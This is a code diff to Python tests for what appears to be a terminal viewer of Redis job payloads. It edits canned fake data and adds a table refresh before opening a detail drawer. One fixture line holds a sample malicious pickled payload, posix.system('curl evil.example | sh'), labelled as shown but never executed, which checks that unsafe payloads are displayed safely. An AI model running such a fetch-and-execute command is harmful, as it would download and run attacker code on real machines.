@@ -47,7 +47,7 @@ class ExplorerFake(FakeReader):
     def job_detail(self, job_id: str) -> JobDetail:
         rows = canned_rows()
         row = next(r for r in rows if r.redis_id == job_id)
-        payload = Payload(True, '["order-17", 3]', (("password", "***"), ("dsn", "redis://:***@cache:6379/0")))
+        payload = Payload(True, "['order-17', 3]", (("password", "***"), ("dsn", "redis://:***@cache:6379/0")))
         if row is rows[1]:  # the second row: a payload that is not plain data, shown as its structure
             payload = Payload(False, structure="args=(posix.system('curl evil.example | sh'), 'order-17') kwargs={}",
                               globals=("posix.system",), note="not plain data (shown, never executed)")
@@ -80,6 +80,11 @@ def open_explorer(*keys: str, drawer: bool = False) -> Any:
         await wait_until(lambda: app.explorer_pane.page is not None, pilot)
         await pilot.press(*keys)
         if drawer:
+            await settle(pilot)  # the table behind the drawer measures its columns first
+            table = app.explorer_pane.table
+            table._clear_caches()  # a header line rendered before the widths grew can stay cached: draw it again
+            table.refresh()
+            await settle(pilot)
             await pilot.press("enter")
             await wait_until(lambda: isinstance(app.screen, ExplorerDetailScreen), pilot)
         await settle(pilot)
